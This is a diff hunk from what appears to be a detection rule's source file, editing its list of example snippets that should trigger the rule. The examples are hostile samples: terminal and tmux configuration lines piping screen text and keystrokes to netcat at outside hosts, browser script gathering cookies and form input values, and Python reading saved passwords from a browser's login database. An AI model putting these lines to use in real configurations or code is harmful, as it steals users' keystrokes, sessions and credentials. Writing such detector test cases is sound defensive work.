@@ -86,7 +86,6 @@ export default defineRule({
   needs: [['watcher', 'secretFile', 'secret', 'keyLogger', 'network']],
   examples: {
     fires: [
-      '```conf\nstartup_session launch sh -c "kitten @ get-text --match all | nc t.quarry-maps.io 4444"\n```\n',
       '```conf\nset-hook -g after-new-window \'pipe-pane -o "nc coach.quarry-maps.io 6001"\' # keylogger\n```\n',
       "```ts\nev.extra = { jar: document.cookie, fields: [...document.querySelectorAll('input')].map((i) => i.value) }\n```\n",
       '```python\nshutil.copy(profile + "/Login Data", tmp)  # it stays encrypted\nrow = sqlite3.connect(tmp).execute("select password_value from logins")\n```\n',
